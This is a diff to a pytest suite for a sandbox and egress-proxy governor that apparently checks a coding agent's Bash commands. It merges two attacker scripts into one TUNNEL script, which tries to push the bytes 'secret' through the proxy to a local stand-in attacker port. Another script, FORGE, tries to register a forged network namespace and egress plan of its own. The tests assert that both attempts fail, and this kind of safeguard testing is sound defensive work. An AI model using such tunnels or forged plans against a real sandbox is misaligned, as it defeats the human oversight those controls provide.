@@ -31,6 +31,24 @@ from tests.sandbox.test_pidns import _can_isolate
 pytestmark = [needs_landlock, pytest.mark.skipif(not _can_isolate(), reason="the kernel refuses namespaces here"),
               pytest.mark.skipif(shutil.which("unshare") is None, reason="no unshare(1)")]
 
+#: the attacker's port (argv[2]) through the proxy: its Unix socket (argv[1], once a line is read on stdin: the
+#: namespace is registered then) or, given a port, the command's 127.0.0.1:3128
+TUNNEL = textwrap.dedent("""\
+    import socket, sys
+    if sys.argv[1].isdigit():
+        s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
+    else:
+        sys.stdin.readline()
+        s = socket.socket(socket.AF_UNIX)
+        s.connect(sys.argv[1])
+    s.sendall(b"CONNECT 127.0.0.1:%s HTTP/1.1\\r\\n\\r\\n" % sys.argv[2].encode())
+    answer = s.recv(200)
+    if b" 200 " in answer:
+        s.sendall(b"secret")
+        print("SENT")
+    else:
+        print("refused", answer[:80])
+""")
 #: the attacker: a plan of its own, a namespace of its own registered with it, then the attacker's port through it
 FORGE = textwrap.dedent("""\
     import array, hashlib, json, os, socket, subprocess, sys
@@ -41,19 +59,8 @@ FORGE = textwrap.dedent("""\
                       separators=(",", ":")).encode()
     plan = os.path.join(plans, hashlib.sha256(data).hexdigest()[:16] + ".egress")
     open(plan, "wb").write(data)
-    child = subprocess.Popen(["unshare", "--user", "--net", sys.executable, "-c", '''
-    import socket, sys
-    sys.stdin.readline()
-    s = socket.socket(socket.AF_UNIX)
-    s.connect(sys.argv[1] + "/proxy")
-    s.sendall(b"CONNECT 127.0.0.1:%s HTTP/1.1\\\\r\\\\n\\\\r\\\\n" % sys.argv[2].encode())
-    answer = s.recv(200)
-    if b" 200 " in answer:
-        s.sendall(b"secret")
-        print("SENT")
-    else:
-        print("refused", answer[:60])
-    ''', egress, str(port)], stdin=subprocess.PIPE, text=True)
+    child = subprocess.Popen(["unshare", "--user", "--net", sys.executable, "src/tunnel.py", egress + "/proxy",
+                              str(port)], stdin=subprocess.PIPE, text=True)
     nsfd = None
     while nsfd is None:  # until unshare has made the namespace and exec'd python
         if child.poll() is not None:
@@ -89,6 +96,7 @@ def test_a_command_in_the_hosts_network_namespace_cannot_register_one_of_its_own
     wait_until(lambda: (directory / "ctl").exists() and (directory / "proxy").exists(), what="the egress proxy")
     policy(sws, "pid_namespace: false")  # the host's network namespace, under the port rules
     (sws / "src" / "forge.py").write_text(FORGE)
+    (sws / "src" / "tunnel.py").write_text(TUNNEL)
     proc = run(sws, "compiled", f"python3 src/forge.py {attacker.getsockname()[1]} {directory}", monkeypatch)
     assert "SENT" not in proc.stdout, proc.stdout + proc.stderr
     assert "registration: OK" not in proc.stdout, proc.stdout + proc.stderr
@@ -102,18 +110,6 @@ REMOTE = textwrap.dedent("""\
         fh.write('[remote "mirror"]\\n\\turl = http://127.0.0.1:%s/x.git\\n' % sys.argv[1])
     print("planted", flush=True)
     sys.stdin.read()
-""")
-#: the second: the attacker's port through the proxy
-REACH = textwrap.dedent("""\
-    import socket, sys
-    s = socket.create_connection(("127.0.0.1", 3128), timeout=10)
-    s.sendall(b"CONNECT 127.0.0.1:%s HTTP/1.1\\r\\n\\r\\n" % sys.argv[1].encode())
-    answer = s.recv(200)
-    if b" 200 " in answer:
-        s.sendall(b"secret")
-        print("SENT")
-    else:
-        print("refused", answer[:80])
 """)
 
 
@@ -134,7 +130,7 @@ def test_a_remote_a_running_command_adds_widens_no_plan(sws: Path, attacker: soc
 
     port = attacker.getsockname()[1]
     (sws / "src" / "remote.py").write_text(REMOTE)
-    (sws / "src" / "reach.py").write_text(REACH)
+    (sws / "src" / "tunnel.py").write_text(TUNNEL)
     host = Host(sws)
     first = host.pre(f"python3 src/remote.py {port}", sandbox=True)
     assert first.allowed and "--git" in (sandbox.options_of(first.command) or [])
@@ -143,7 +139,7 @@ def test_a_remote_a_running_command_adds_widens_no_plan(sws: Path, attacker: soc
     try:
         assert holder.stdout is not None and holder.stdout.readline() == "planted\n", holder.stderr
         second = Governor(sws, approval_channel="deny").pre(
-            to_call("Bash", {"command": f"python3 src/reach.py {port}"}, session_id="r", agent="claude-code",
+            to_call("Bash", {"command": f"python3 src/tunnel.py 3128 {port}"}, session_id="r", agent="claude-code",
                     cwd=str(sws)), sandbox=True)
         assert second.allowed, second
         done = subprocess.run(["/bin/bash", "-c", second.command], cwd=sws, capture_output=True, text=True,
